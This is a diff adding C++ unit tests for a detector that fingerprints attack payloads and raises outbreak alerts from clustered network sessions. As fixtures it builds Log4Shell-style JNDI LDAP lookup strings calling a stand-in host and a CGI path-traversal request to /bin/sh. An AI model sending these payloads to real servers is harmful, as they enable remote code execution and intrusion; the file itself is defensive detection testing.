@@ -1,0 +1,117 @@
+#include "lifecycle/emergent.h"
+
+#include <gtest/gtest.h>
+
+#include "net/http.h"
+
+namespace cvewb::lifecycle {
+namespace {
+
+using util::Duration;
+using util::TimePoint;
+
+net::TcpSession make_session(TimePoint t, std::uint32_t src, const std::string& payload) {
+  net::TcpSession s;
+  s.open_time = t;
+  s.src = net::IPv4(src);
+  s.payload = payload;
+  return s;
+}
+
+std::string jndi_request(int host_octet, int param) {
+  net::HttpRequest req;
+  req.uri = "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113." + std::to_string(host_octet) + "%2Fa" +
+            std::to_string(param) + "%7D";
+  req.add_header("Host", "10.0.0." + std::to_string(host_octet));
+  return req.serialize();
+}
+
+TEST(Fingerprint, StableAcrossCampaignVolatileParts) {
+  // Different exfil hosts and parameter values, same campaign shape.
+  const auto a = payload_fingerprint(make_session(TimePoint(0), 1, jndi_request(5, 111)));
+  const auto b = payload_fingerprint(make_session(TimePoint(0), 2, jndi_request(99, 42)));
+  EXPECT_EQ(a, b);
+}
+
+TEST(Fingerprint, DistinguishesDifferentShapes) {
+  const auto jndi = payload_fingerprint(make_session(TimePoint(0), 1, jndi_request(5, 1)));
+  const auto traversal = payload_fingerprint(
+      make_session(TimePoint(0), 1, "GET /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\n\r\n"));
+  const auto raw = payload_fingerprint(make_session(TimePoint(0), 1, "\x01\x02\x03probe"));
+  EXPECT_NE(jndi, traversal);
+  EXPECT_NE(jndi, raw);
+  EXPECT_TRUE(raw.rfind("raw:", 0) == 0);
+  EXPECT_EQ(payload_fingerprint(make_session(TimePoint(0), 1, "")), "<empty>");
+}
+
+TEST(Detector, AlertsOnOutbreakWithSourceDiversity) {
+  EmergentDetectorConfig config;
+  config.min_sessions = 5;
+  config.min_sources = 3;
+  EmergentDetector detector(config);
+  const EmergentAlert* alert = nullptr;
+  for (int i = 0; i < 5; ++i) {
+    alert = detector.observe(
+        make_session(TimePoint(i * 3600), 100 + static_cast<std::uint32_t>(i % 3),
+                     jndi_request(5, i)));
+  }
+  ASSERT_NE(alert, nullptr);
+  EXPECT_EQ(alert->sessions, 5u);
+  EXPECT_EQ(alert->distinct_sources, 3u);
+  EXPECT_EQ(alert->detection_latency().total_seconds(), 4 * 3600);
+  // No second alert for the same fingerprint.
+  EXPECT_EQ(detector.observe(make_session(TimePoint(90000), 200, jndi_request(1, 9))), nullptr);
+  EXPECT_EQ(detector.alerts().size(), 1u);
+}
+
+TEST(Detector, SingleSourceFloodDoesNotAlert) {
+  EmergentDetectorConfig config;
+  config.min_sessions = 5;
+  config.min_sources = 3;
+  EmergentDetector detector(config);
+  for (int i = 0; i < 50; ++i) {
+    EXPECT_EQ(detector.observe(make_session(TimePoint(i * 60), 7, jndi_request(5, i))), nullptr);
+  }
+}
+
+TEST(Detector, SlowBurnPatternExpiresWithoutAlert) {
+  EmergentDetectorConfig config;
+  config.min_sessions = 4;
+  config.min_sources = 2;
+  config.window = Duration::days(7);
+  EmergentDetector detector(config);
+  // Three sessions inside the window, the threshold-crossing one far
+  // outside: ambient, not an outbreak.
+  detector.observe(make_session(TimePoint(0), 1, jndi_request(5, 1)));
+  detector.observe(make_session(TimePoint(86400), 2, jndi_request(5, 2)));
+  detector.observe(make_session(TimePoint(2 * 86400), 3, jndi_request(5, 3)));
+  EXPECT_EQ(detector.observe(
+                make_session(TimePoint(30 * 86400), 4, jndi_request(5, 4))),
+            nullptr);
+  // Even heavy later traffic cannot resurrect an expired cluster.
+  for (int i = 0; i < 20; ++i) {
+    EXPECT_EQ(detector.observe(make_session(TimePoint((31 + i) * 86400),
+                                            10 + static_cast<std::uint32_t>(i),
+                                            jndi_request(5, i))),
+              nullptr);
+  }
+  EXPECT_TRUE(detector.alerts().empty());
+}
+
+TEST(Detector, IndependentClustersAlertIndependently) {
+  EmergentDetectorConfig config;
+  config.min_sessions = 3;
+  config.min_sources = 2;
+  EmergentDetector detector(config);
+  for (int i = 0; i < 3; ++i) {
+    detector.observe(make_session(TimePoint(i), 1 + static_cast<std::uint32_t>(i),
+                                  jndi_request(5, i)));
+    detector.observe(
+        make_session(TimePoint(i), 50 + static_cast<std::uint32_t>(i),
+                     "GET /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\nHost: x\r\n\r\n"));
+  }
+  EXPECT_EQ(detector.alerts().size(), 2u);
+}
+
+}  // namespace
+}  // namespace cvewb::lifecycle
